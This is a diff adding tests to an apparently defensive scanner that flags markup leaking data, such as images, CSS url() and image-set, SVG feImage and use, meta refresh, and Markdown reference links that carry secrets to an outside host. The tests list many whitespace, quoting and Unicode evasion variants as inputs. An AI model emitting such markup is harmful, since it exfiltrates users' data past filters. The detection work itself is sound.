@@ -56,6 +56,79 @@ describe('an image that carries data away is told', () => {
     expect(await threatsOf(text)).not.toContain('DATA_EXFILTRATION');
   });
 
+  const spaces = ' '.repeat(5);
+  const long = 'name '.repeat(150);
+  it.each([
+    ['before a value', `<img src=${spaces}"${leak}">`],
+    ['before the sign of a value', `<img src${spaces}="${leak}">`],
+    ['as line breaks before a value', `<img src=\r\n\r\n"${leak}">`],
+    ['as escaped line breaks before a value', JSON.stringify({ html: `<img src=\n"${leak}">` })],
+    ['in a style', `<p style="background: url(${spaces}${leak})">`],
+    ['before what a style takes in', `@import${spaces}"${leak}"`],
+    ['before nothing that a style takes in', `@import"${leak}"`],
+    ['in parentheses', `![a](${spaces}${leak})`],
+    ['in parentheses of a quotation', `> ![a](\n> ${leak})`],
+    ['before a definition', `![a][r]\n\n[r]:\n${spaces}${leak}`],
+    ['of a definition in a quotation', `> ![a][r]\n>\n> [r]:\n> ${leak}`],
+    ['in a name', `![a][my  name]\n\n[my name]: ${leak}`],
+    ['as a line break in a name', `![a][my\nname]\n\n[My name]: ${leak}`],
+    ['in a long name', `![a][${long}]\n\n[${long}]: ${leak}`],
+    ['as escaped line breaks around a definition', JSON.stringify({ md: `![a][my\nname]\n\n[my name]: ${leak}` })],
+  ])('whatever white space stands %s', async (_, text) => {
+    expect(await threatsOf(text)).toContain('DATA_EXFILTRATION');
+  });
+
+  it.each([
+    ['a definition in a quotation', `![a][r]\n\n> [r]: ${leak}`],
+    ['a definition in a list', `![a][r]\n\n- [r]: ${leak}`],
+    ['a definition in a numbered list of a quotation', `![a][r]\n\n> 12. [r]: ${leak}`],
+    ['a name with a bracket', `![a][r\\]x]\n\n[r\\]x]: ${leak}`],
+    ['a name in other letters', `![a][Straße]\n\n[STRASSE]: ${leak}`],
+    ['a filter', `<svg><feImage href="${leak}"/></svg>`],
+    ['a shape of another file', `<svg><use xlink:href="${leak}"/></svg>`],
+    ['a set of images in a style', `<p style="background: image-set('/a.png' 1x, '${leak}' 2x)">`],
+    ['a page that moves on', `<meta http-equiv=refresh content="0;${leak}">`],
+    ['a page that moves on by name', `<meta http-equiv=refresh content="1.5, URL     = '${leak}'">`],
+  ])('in %s', async (_, text) => {
+    expect(await threatsOf(text)).toContain('DATA_EXFILTRATION');
+  });
+
+  const [image, data] = ['https://status.acme-corp.com/l.png', 'secret=hunter2horse'];
+  it.each([
+    ...['\n', '\t', '\r', "x='&", 'x=>&', 'x=1&lt;&', 'x=1 &', 'x=,https:&', 'x=。&'].map((sign) => [
+      `<img src="${image}?${sign}${data}">`,
+    ]),
+    ...["x='&", 'x=`&', 'x=“&', 'x=‹&', 'x=，&', 'x=。&', 'x=(")&'].map((sign) => [`![a](${image}?${sign}${data})`]),
+    [`![a](<${image}?q=a b&${data}>)`],
+    [`![a](<${image}?q=\\>&${data}>)`],
+    [`![a][r]\n\n[r]: ${image}?x='&${data}`],
+    [`<img src=${image}?x='&${data}>`],
+    [`<img srcset="/a.png 1x,\n${image}?x='&${data} 2x">`],
+    [`<meta http-equiv=refresh content="0;url='${image}?x=“&${data}'">`],
+    [`<p style="background: url('${image}?x= &${data}')">`],
+    [`<p style="background: url(${image}?x=“&${data})">`],
+    [`<img src="${image.replace('t', 't\n')}?${data}">`],
+    [`<img src="/x" alt=x>![a](${image}?x='&${data} "title")`],
+  ])('to the end that the markup gives it: %j', async (text) => {
+    expect(await threatsOf(text)).toContain('DATA_EXFILTRATION');
+  });
+
+  it('or suspected where what its markup holds is longer than what is read', async () => {
+    expect(await threatsOf(`<img src="${image}${'\n'.repeat(9000)}?a=b">`)).toEqual(['DATA_EXFILTRATION']);
+    expect(await threatsOf(`![a](${image}?x='${'a'.repeat(9000)})`)).toContain('DATA_EXFILTRATION');
+  });
+
+  it.each([
+    ['a title', `![a](${image} "${data}")`],
+    ['a title of a definition', `![a][r]\n\n[r]: ${image} '?${data}'`],
+    ['what stands behind it', `![a](${image}) '?${data}'`],
+    ['another attribute', `<img src='${image}' alt="?${data}">`],
+    ['the next line of a string', JSON.stringify({ md: `![a][r]\n\n[r]: ${image}\n?${data}` })],
+    ['a description', `<meta name=description content="3 images: ${image} and ?${data}">`],
+  ])('and no farther: not to %s', async (_, text) => {
+    expect(await threatsOf(text)).toEqual([]);
+  });
+
   it('and a host is found behind any user that an address may have', async () => {
     expect(await threatsOf(`https://paypal.com=${'a'.repeat(4000)}@evil-site.ru/login`)).toContain(
       'SOCIAL_ENGINEERING',
